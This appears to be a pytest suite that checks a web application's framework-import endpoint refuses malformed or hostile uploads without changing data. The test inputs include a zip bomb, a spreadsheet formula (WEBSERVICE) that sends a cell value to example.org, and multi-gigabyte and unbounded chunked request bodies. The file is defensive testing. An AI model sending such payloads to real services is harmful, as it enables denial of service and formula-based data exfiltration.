"""Files that are broken or meant to do harm, sent to the real server: a sentence, and no change."""

import http.client
import io
import json
import select as waiting
import zipfile
from urllib.parse import urlsplit

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from pog.core.database import db
from pog.frameworks.models import Competency, Framework, FrameworkAssociation
from pog.imports.models import FrameworkImport
from tests.browser.guests import Guest
from tests.cast import make_cast
from tests.standards import packages

MEGABYTE = 1024 * 1024
GIGABYTE = 1024 * MEGABYTE


@pytest.fixture
def cast(site):
    with site.work():
        return make_cast(current="draft")


@pytest.fixture
def ana(site, cast):
    guest = Guest(site.url)
    guest.take_cookie(site.take_cookie(site.app.test_client(), cast.ana))
    return guest


@pytest.fixture
def unchanged(site):
    """How much there is of what an import makes; compared after the test."""

    def counted():
        with site.app.app_context():
            kinds = (Framework, Competency, FrameworkAssociation, FrameworkImport)
            return [db.session.scalar(select(func.count()).select_from(kind)) for kind in kinds]

    before = counted()
    yield
    assert counted() == before


def cyclic():
    document = packages.package()
    for link in document["CFAssociations"]:
        if link["associationType"] == "isChildOf":
            link["originNodeURI"], link["destinationNodeURI"] = (
                packages.node(11),
                packages.node(12),
            )
            break
    document["CFAssociations"].append(packages.association(90, 12, 11))
    return json.dumps(document).encode()


def repeated():
    document = packages.package()
    document["CFItems"].append(packages.item(11, "Something else under the same identifier."))
    return json.dumps(document).encode()


def deep_tree():
    document = packages.package()
    document["CFItems"] = [packages.item(1_000 + n, f"Level {n}.") for n in range(101)]
    document["CFAssociations"] = [
        packages.association(5_000 + n, 1_000 + n, 999 + n if n else 1) for n in range(101)
    ]
    return json.dumps(document).encode()


def bomb():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("xl/worksheets/sheet1.xml", b"\0" * (300 * MEGABYTE))
    return out.getvalue()


def formula():
    book = Workbook()
    book.active.append(["identifier", "fullStatement"])
    book.active.append(["1", '=WEBSERVICE("https://example.org/?"&A1)'])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


WHOLE = json.dumps(packages.package())
FILES = {
    "cut off": (WHOLE[: len(WHOLE) // 2].encode, "stops in the middle"),
    "UTF-16": (lambda: WHOLE.encode("utf-16"), "not written in UTF-8"),
    "Latin-1": (lambda: WHOLE.encode().replace(b"Plans", b"Pl\xe4ne"), "not written in UTF-8"),
    "a circle": (cyclic, "goes round in circles"),
    "an identifier twice": (repeated, "is used for two different things"),
    "brackets in brackets": (lambda: b'{"CFDocument":' + b"[" * 200 + b"]" * 200 + b"}", "nests"),
    "101 levels of items": (deep_tree, "more than 100 levels"),
    "a bomb": (bomb, "too large"),
    "a formula": (formula, "holds a formula"),
}


@pytest.mark.parametrize("name", FILES)
def test_it_is_refused_with_a_sentence_and_nothing_changes(ana, unchanged, name):
    make, says = FILES[name]
    form = ana.get("/frameworks/import").form("/frameworks/import")
    fields = {key: value[0] for key, value in form.values.items()}
    answer = ana.upload("/frameworks/import", make(), **fields, sector=form.choices["sector"][0])
    assert answer.status in (413, 422), answer.sentence
    assert says in answer.sentence
    assert "Import a framework" in answer.sentence


def connect(site, ana):
    parts = urlsplit(site.url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    connection.putrequest("POST", "/frameworks/import")
    connection.putheader("Cookie", "; ".join(f"{one.name}={one.value}" for one in ana.jar))
    connection.putheader("Sec-Fetch-Site", "same-origin")
    connection.putheader("Content-Type", "multipart/form-data; boundary=x")
    return connection


def test_two_gigabytes_are_refused_before_they_are_sent(site, ana, unchanged):
    connection = connect(site, ana)
    connection.putheader("Content-Length", str(2 * GIGABYTE))
    connection.endheaders()
    connection.send(b"--x\r\n")
    answer = connection.getresponse()
    assert answer.status == 413
    assert b"The limit is 64 MB." in answer.read()
    connection.close()
    assert ana.get("/frameworks").status == 200


def test_a_body_without_a_length_is_not_read_to_its_end(site, ana, unchanged):
    """Two gigabytes in pieces: the server answers or hangs up after no more than its limit."""
    connection = connect(site, ana)
    connection.putheader("Transfer-Encoding", "chunked")
    connection.endheaders()
    piece = b"%x\r\n%s\r\n" % (MEGABYTE, b"x" * MEGABYTE)
    sent = 0
    try:
        while sent < 2 * GIGABYTE:
            connection.sock.sendall(piece)
            sent += MEGABYTE
            if answered(connection.sock):
                break
    except (BrokenPipeError, ConnectionResetError):
        pass
    assert sent < 200 * MEGABYTE
    connection.close()
    assert ana.get("/frameworks").status == 200


def answered(sock):
    readable, _writable, _broken = waiting.select([sock], [], [], 0)
    return bool(readable)
